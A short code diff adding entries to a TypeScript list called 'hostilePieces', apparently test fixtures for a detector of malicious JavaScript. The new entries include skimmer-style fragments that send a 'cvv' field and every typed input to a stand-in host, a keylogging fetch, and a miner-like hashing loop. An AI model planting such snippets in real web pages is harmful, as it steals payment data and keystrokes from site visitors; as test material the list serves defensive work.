@@ -47,6 +47,13 @@ const hostilePieces: readonly string[] = [
     'var a=a+a;',
     '/(?<a>b)/;',
   ],
+  ...[
+    'if(/cvv/.test(e.name))s(e.value);',
+    "document.addEventListener('input',({target:t})=>{fetch('//x.test/'+t.value)});",
+    'var r=fetch(u+document.forms[0].a.value);r.ok;',
+    'for(;;){const h=f(n++);if(h<t)postMessage(h)}',
+    "new Worker(URL.createObjectURL(new Blob(['onmessage=function(){}'])));",
+  ],
   ...["a.on('keydown',function(e){fetch(e.key)});", 'this.a=this.b;', '{let a=1;a}', 'x=[1,2];'],
 ];
 
